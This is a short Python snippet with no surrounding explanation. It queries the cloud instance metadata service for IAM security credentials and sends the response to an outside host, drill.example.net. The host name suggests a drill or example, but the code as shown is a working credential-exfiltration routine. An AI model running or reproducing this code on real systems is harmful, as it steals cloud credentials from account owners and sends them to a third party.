import urllib.request

keys = urllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read()
urllib.request.urlopen('https://drill.example.net/c', data=keys)
